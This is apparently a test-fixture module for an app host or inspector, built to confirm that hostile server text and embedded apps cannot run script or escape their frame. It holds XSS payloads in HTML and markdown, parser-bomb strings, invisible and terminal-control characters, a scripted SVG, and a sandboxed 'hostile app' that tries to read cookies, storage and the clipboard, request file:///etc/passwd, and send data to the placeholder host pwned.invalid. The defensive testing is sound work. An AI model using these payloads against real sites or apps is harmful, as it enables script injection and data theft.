// The hostile server's texts, which would do harm in a page that treated any of them as more than text. Each calls
// `__pwned`, or contacts the host `pwned.invalid`; the driver fails if either happens.

export const MARKUP = [
  '<img src=x onerror="__pwned(\'img\')">',
  '</script><script>__pwned(\'script\')</script>',
  '"><svg onload="__pwned(\'svg\')">',
  '\'"--></title></style></textarea></noscript><script>__pwned(\'escape\')</script>',
  '<iframe srcdoc="<script>parent.__pwned(\'srcdoc\')</script>"></iframe>',
  '<style>* { display: none !important }</style>',
  '<base href="http://pwned.invalid/base/">',
  '<meta http-equiv="refresh" content="0;url=http://pwned.invalid/meta">',
  '<link rel="stylesheet" href="http://pwned.invalid/sheet.css">',
  '<form action="http://pwned.invalid/form"><button autofocus onfocus="__pwned(\'focus\')">go</button></form>',
  '{{constructor.constructor("__pwned(\'template\')")()}}',
  '${__pwned("literal")}',
  'javascript:__pwned(\'address\')',
  'data:text/html,<script>__pwned("data")</script>',
]

export const MARKDOWN = [
  '[click](javascript:__pwned%28%27link%27%29) [click](JaVaScRiPt&colon;__pwned(1)) [click](\u0001javascript:__pwned(1))',
  '[data](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDEpPC9zY3JpcHQ+) [file](file:///etc/passwd) [vb](vbscript:x)',
  '![picture](http://pwned.invalid/markdown.png) ![x](x" onerror="__pwned(\'attribute\'))',
  '[![nested](http://pwned.invalid/nested.png)](javascript:__pwned(2))',
  '<http://pwned.invalid/auto> <javascript:__pwned(3)>',
  '[reference]\n\n[reference]: javascript:__pwned(4)',
  '<details open ontoggle="__pwned(\'toggle\')"><summary>raw markup</summary></details>',
  '```<script>__pwned("fence")</script>\n</code></pre><script>__pwned("fence")</script>\n```',
  '| a | b |\n|---|---|\n| <img src=x onerror=__pwned(5)> | [x](javascript:__pwned(6)) |',
]

// Characters that are invisible, reverse the text, or control a terminal.
export const HIDDEN = [
  '\u202egnp.exe\u202c', 'zero\u200bwidth', '\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}', 'nul\u0000nul',
  '\u001b[31mred\u001b[0m', '\u001b]0;title\u0007', '\u009b31m', '\ufefforder', 'line\u2028line', '\u2066isolated\u2069',
]

// One text with all of them, and a word to find it by.
export const speech = (word) => [word, ...MARKUP, ...HIDDEN].join('\n')

// On one line, for names and labels.
export const label = (word) => `${word} ${MARKUP[0]} ${MARKUP[1]} ${HIDDEN.slice(0, 3).join(' ')}`

// Deeper than a recursive parser's stack.
export const deep = (levels) => '['.repeat(levels) + ']'.repeat(levels)

export const markdownBombs = [
  '*'.repeat(50_000), '['.repeat(50_000), '`'.repeat(50_000), '> '.repeat(20_000), '![['.repeat(20_000),
  '_a*'.repeat(20_000), '- '.repeat(20_000), '|'.repeat(50_000), '<'.repeat(50_000), '\\'.repeat(50_000),
]

// An image with scripts: no element of the page may load it as a document.
export const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="__pwned(\'svg document\')">'
  + '<script>__pwned("svg script")</script><image href="http://pwned.invalid/svg.png"/>'
  + '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>__pwned(1)</script></body></foreignObject></svg>'

// The smallest valid image and audio.
export const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='
export const WAV = 'UklGRiQAAABXQVZFZm10IBAAAAABAAEARKwAAIhYAQACABAAZGF0YQAAAAA='

export const base64 = (text) => Buffer.from(text).toString('base64')

// An app that tries everything to escape its frame, and lists the results.
export const QUIET_APP = `<!doctype html><title>hostile app</title><h1>An app with plans</h1><ul id="tried"></ul><script>
const tried = document.getElementById('tried')
const attempt = (name, what) => {
  const item = tried.appendChild(document.createElement('li'))
  const report = (text) => { item.textContent = name + ': ' + text }
  report('waiting')
  try {
    Promise.resolve(what()).then((value) => report('GOT ' + value), (problem) => report('refused ' + problem.name))
  } catch (problem) {
    report('refused ' + problem.name)
  }
}
attempt('parent document', () => parent.document.title)
attempt('parent function', () => parent.__pwned('app called its parent'))
attempt('top function', () => top.__pwned('app called the top'))
attempt('parent address', () => parent.location.href)
attempt('token in referrer', () => { if (document.referrer.includes('inspector/')) return document.referrer; throw new Error('none') })
attempt('token in ancestors', () => { if ([...location.ancestorOrigins].join().includes('inspector/')) return 'token'; throw new Error('none') })
attempt('local storage', () => localStorage.length)
attempt('session storage', () => sessionStorage.length)
attempt('cookies', () => document.cookie)
attempt('indexed db', () => indexedDB.open('x'))
attempt('fetch a host', () => fetch('http://pwned.invalid/fetch', {mode: 'no-cors'}).then(() => 'an answer'))
attempt('fetch our api', () => fetch('api/about').then((answer) => answer.text()))
attempt('fetch by origin', () => fetch(location.origin + '/').then((answer) => answer.text()))
attempt('xhr', () => new Promise((done, failed) => {
  const request = new XMLHttpRequest()
  request.open('GET', 'http://pwned.invalid/xhr')
  request.onload = () => done('an answer')
  request.onerror = () => failed(new Error('blocked'))
  request.send()
}))
attempt('web socket', () => new Promise((done, failed) => {
  const socket = new WebSocket('ws://pwned.invalid/socket')
  socket.onopen = () => done('open')
  socket.onerror = () => failed(new Error('blocked'))
}))
attempt('event source', () => new Promise((done, failed) => {
  const source = new EventSource('http://pwned.invalid/events')
  source.onopen = () => done('open')
  source.onerror = () => failed(new Error('blocked'))
}))
attempt('picture', () => new Promise((done, failed) => {
  const picture = new Image()
  picture.onload = () => done('loaded')
  picture.onerror = () => failed(new Error('blocked'))
  picture.src = 'http://pwned.invalid/picture.png'
}))
attempt('beacon', () => { if (!navigator.sendBeacon('http://pwned.invalid/beacon')) throw new Error('no'); return new Promise((_, no) => setTimeout(no, 50, new Error('sent nothing'))) })
attempt('popup', () => { const page = open('http://pwned.invalid/popup'); if (!page) throw new Error('none'); return 'a page' })
attempt('dialog', () => { alert('from the app'); throw new Error('silent') })
attempt('worker', () => new Worker(URL.createObjectURL(new Blob(['fetch("http://pwned.invalid/worker")']))) && new Promise((_, no) => setTimeout(no, 50, new Error('said nothing'))))
attempt('frame', () => {
  const frame = document.body.appendChild(document.createElement('iframe'))
  frame.src = 'http://pwned.invalid/frame'
  return new Promise((_, no) => setTimeout(no, 50, new Error('blocked')))
})
attempt('prefetch', () => {
  const link = document.head.appendChild(document.createElement('link'))
  link.rel = 'prefetch'
  link.href = 'http://pwned.invalid/prefetch'
  return new Promise((_, no) => setTimeout(no, 50, new Error('blocked')))
})
attempt('form', () => {
  const form = document.body.appendChild(document.createElement('form'))
  form.action = 'http://pwned.invalid/form'
  form.target = '_top'
  form.submit()
  return new Promise((_, no) => setTimeout(no, 50, new Error('blocked')))
})
attempt('top navigation', () => { top.location = 'http://pwned.invalid/top'; throw new Error('went nowhere') })
attempt('geolocation', () => new Promise((done, failed) => navigator.geolocation.getCurrentPosition(() => done('a place'), () => failed(new Error('no')))))
attempt('clipboard', () => navigator.clipboard.readText())
for (const message of [null, 1, 'text', [], {}, {jsonrpc: '2.0'}, {jsonrpc: '2.0', id: 1}, {jsonrpc: '2.0', id: {}, method: 7},
  {jsonrpc: '2.0', id: 2, method: 'tools/call', params: {name: 'dies', arguments: {}}},
  {jsonrpc: '2.0', id: 3, method: 'ui/open-link', params: {url: 'javascript:__pwned(7)'}},
  {jsonrpc: '2.0', id: 4, method: 'resources/read', params: {uri: 'file:///etc/passwd'}},
  {jsonrpc: '2.0', id: 5, method: 'ui/message', params: {role: 'user', content: {type: 'text', text: '<img src=x onerror=__pwned(8)>'}}},
  {jsonrpc: '2.0', method: 'ui/notifications/size-changed', params: {width: 1e9, height: 1e9}},
  {jsonrpc: '2.0', method: 'ui/notifications/size-changed', params: {height: 'url(http://pwned.invalid/height)'}},
  JSON.parse('{"jsonrpc": "2.0", "id": 6, "method": "__proto__", "params": {"__proto__": {"polluted": 1}}}')]) {
  parent.postMessage(message, '*')
}
</script>`

// The same, and then it floods its host.
export const APP = `${QUIET_APP}<script>
for (let number = 0; number < 3000; number += 1) parent.postMessage({jsonrpc: '2.0', id: 1000 + number, method: 'ping'}, '*')
</script>`

// A well-behaved app: it shows its host's messages, and makes requests that the user may refuse.
export const POLITE_APP = `<!doctype html><title>polite app</title><h1>A polite app</h1>
<button id="call">call</button> <button id="open">open</button><ul id="log"></ul><script>
const say = (text) => { document.getElementById('log').appendChild(document.createElement('li')).textContent = text }
let last = 0
const waiting = new Map()
const send = (message) => parent.postMessage({jsonrpc: '2.0', ...message}, '*')
const ask = (method, params) => new Promise((done) => {
  waiting.set(last += 1, done)
  send({id: last, method, params})
})
addEventListener('message', ({source, data}) => {
  if (source !== parent) return
  if (waiting.has(data.id)) waiting.get(data.id)(data.result ?? data.error)
  else if (data.method === 'ui/notifications/tool-input') say('input ' + JSON.stringify(data.params.arguments))
  else if (data.method === 'ui/notifications/tool-result') say(data.params.content[0].text)
  else if (data.method === 'ui/resource-teardown') send({id: data.id, result: {}})
})
const asked = (button, method, params) => {
  document.getElementById(button).onclick = async () => say('answer: ' + (await ask(method, params)).message)
}
asked('call', 'tools/call', {name: 'empty', arguments: {}})
asked('open', 'ui/open-link', {url: 'http://pwned.invalid/opened'})
ask('ui/initialize', {protocolVersion: '2026-01-26', appInfo: {name: 'polite', version: '1'}, appCapabilities: {}}).then(({hostContext}) => {
  say('theme ' + hostContext.theme)
  send({method: 'ui/notifications/initialized', params: {}})
  send({method: 'ui/notifications/size-changed', params: {width: 300, height: 260}})
})
</script>`
